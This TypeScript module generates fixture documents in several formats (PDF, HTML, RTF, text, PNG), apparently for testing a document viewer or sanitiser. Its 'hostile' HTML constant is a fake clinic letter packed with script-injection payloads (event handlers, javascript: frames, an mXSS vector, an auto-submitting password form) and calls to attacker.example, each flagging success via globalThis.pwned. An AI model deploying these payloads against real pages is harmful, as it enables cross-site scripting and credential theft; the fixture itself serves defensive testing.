import { hostileTexts } from './hostile.ts';
import { pdf, type Part } from './pdf.ts';

/** The forms in which the sources keep their documents. */
export type Form = 'pdf' | 'html' | 'rtf' | 'text' | 'png' | 'hostile-html' | 'hostile-text';

/** What a source declares a form to be. */
export const contentTypes: { readonly [F in Form]: string } = {
  pdf: 'application/pdf',
  html: 'text/html; charset=utf-8',
  rtf: 'application/rtf',
  text: 'text/plain; charset=utf-8',
  png: 'image/png',
  'hostile-html': 'text/html',
  'hostile-text': 'text/plain',
};

/** A document in that form, its bytes as characters. */
export const written: { readonly [F in Form]: (title: string, parts: readonly Part[]) => string } = {
  pdf,
  html: (title, parts) => bytes(html(title, parts)),
  rtf,
  text: (_title, parts) => bytes(parts.map(({ heading, text }) => (heading ? `${heading}\n${text}` : text)).join('\n\n')),
  png: () => photograph(),
  'hostile-html': () => bytes(hostile),
  'hostile-text': () => bytes(hostileTexts.join('\n')),
};

/** Text as UTF-8, a character a byte. */
function bytes(text: string): string {
  const encoded = new TextEncoder().encode(text);
  let written = '';
  // Not all at once: a call has only so many arguments.
  for (let at = 0; at < encoded.length; at += 8192) written += String.fromCharCode(...encoded.subarray(at, at + 8192));
  return written;
}

const escaped = (text: string) => text.replace(/[&<>]/g, (character) => `&#${character.charCodeAt(0)};`);

function html(title: string, parts: readonly Part[]): string {
  const body = parts.map(({ heading, text }) => {
    const paragraphs = text.split('\n').map((line) => `<p>${escaped(line)}</p>`).join('\n');
    return `${heading ? `<h2 style="color:#005eb8;font-size:14pt">${escaped(heading)}</h2>\n` : ''}${paragraphs}`;
  });
  return `<!DOCTYPE html>
<html lang="en-GB">
<head><meta charset="utf-8"><title>${escaped(title)}</title>
<style>body { font-family: Arial, sans-serif; margin: 2em; max-width: 45em } p { margin: 0.25em 0 }</style></head>
<body>
<img src="${crest()}" alt="">
<h1 style="font-size:16pt">${escaped(title)}</h1>
${body.join('\n<hr>\n')}
</body>
</html>
`;
}

/** RTF 1.5, in which a character outside ASCII is its number with a stand-in. */
function rtf(title: string, parts: readonly Part[]): string {
  const words = (text: string) =>
    text.replace(/[\\{}]/g, '\\$&').replace(/\n/g, '\\line ').replace(/[^\x20-\x7e]/g, (one) => `\\u${one.charCodeAt(0)}?`);
  const paragraphs = parts.map(({ heading, text }) => `${heading ? `{\\b ${words(heading)}}\\line ` : ''}${words(text)}\\par\\par`);
  return `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0\\fswiss Arial;}}\\f0\\fs28{\\b ${words(title)}}\\par\\par\\fs21\n${paragraphs.join('\n')}\n}`;
}

/** Everything that a page could want to do behind the reader's back. Each that runs sets `globalThis.pwned`. */
const hostile = `<!DOCTYPE html>
<html><head><title>Letter</title>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0; url=https://attacker.example/refresh">
<link rel="stylesheet" href="https://attacker.example/style.css">
<link rel="prefetch" href="https://attacker.example/prefetch">
<style>@import url("https://attacker.example/import.css"); body { background: url(https://attacker.example/background.png) }</style>
<script>globalThis.pwned = "inline"; parent.pwned = "inline"</script>
<script src="https://attacker.example/script.js"></script></head>
<body onload="parent.pwned = 'onload'">
<h1>Clinic letter</h1>
<p>Dear Dr Rao, thank you for referring this patient. No follow-up is needed.</p>
<img src="https://attacker.example/pixel.png" onerror="parent.pwned = 'image'" alt="">
<svg><script>parent.pwned = "svg"</script><animate onbegin="parent.pwned = 'animate'" attributeName="x" dur="1s"></animate></svg>
<form action="https://attacker.example/form" method="post"><input name="password" autofocus onfocus="this.form.submit()"></form>
<iframe src="javascript:parent.parent.pwned = 'iframe'"></iframe>
<iframe srcdoc="&lt;script&gt;top.pwned = 'srcdoc'&lt;/script&gt;"></iframe>
<object data="https://attacker.example/object"></object><embed src="https://attacker.example/embed">
<a href="javascript:parent.pwned = 'link'">Results</a> <a href="https://attacker.example/top" target="_top">Portal</a>
<details open ontoggle="parent.pwned = 'toggle'"><summary>More</summary></details>
<video src="https://attacker.example/video.mp4" autoplay></video>
<math><mtext><table><mglyph><style><img src onerror="parent.pwned = 'mutation'"></style></mglyph></table></mtext></math>
</body></html>
`;

/** A photograph of a kind. */
const photograph = () =>
  picture(160, 120, (x, y) => {
    const away = Math.hypot((x - 84) / 1.4, y - 58);
    return away < 24 ? 70 + away : away < 30 ? 120 + (away - 24) * 9 : 196 + ((x + y) % 7);
  });

/** What many letters have at their head: a picture that is part of the letter. */
const crest = () => `data:image/png;base64,${btoa(picture(24, 24, (x, y) => (Math.abs(x - 11.5) + Math.abs(y - 11.5) < 11 ? 60 : 255)))}`;

/** In shades of grey: PNG, with its pixels stored and not compressed. */
function picture(width: number, height: number, shade: (x: number, y: number) => number): string {
  let pixels = '';
  for (let y = 0; y < height; y++) {
    pixels += '\0';
    for (let x = 0; x < width; x++) pixels += String.fromCharCode(Math.round(shade(x, y)));
  }
  const header = `${uint32(width)}${uint32(height)}\x08\0\0\0\0`;
  return `\x89PNG\r\n\x1a\n${chunk('IHDR', header)}${chunk('IDAT', stored(pixels))}${chunk('IEND', '')}`;
}

const uint32 = (number: number) => String.fromCharCode(number >>> 24, (number >>> 16) & 255, (number >>> 8) & 255, number & 255);

/** A chunk of a PNG with its CRC-32 (ISO 15948, annex D). */
function chunk(type: string, data: string): string {
  let crc = 0xffffffff;
  for (const character of `${type}${data}`) {
    crc ^= character.charCodeAt(0);
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return `${uint32(data.length)}${type}${data}${uint32(~crc >>> 0)}`;
}

/** A zlib stream of stored blocks with its Adler-32 (RFC 1950, RFC 1951). */
function stored(data: string): string {
  let [stream, a, b] = ['\x78\x01', 1, 0];
  for (const character of data) {
    a = (a + character.charCodeAt(0)) % 65521;
    b = (b + a) % 65521;
  }
  for (let at = 0; at < data.length; at += 65535) {
    const block = data.slice(at, at + 65535);
    const size = block.length;
    const last = at + 65535 >= data.length ? '\x01' : '\0';
    stream += `${last}${String.fromCharCode(size & 255, size >>> 8, ~size & 255, (~size >>> 8) & 255)}${block}`;
  }
  return `${stream}${uint32(((b << 16) | a) >>> 0)}`;
}
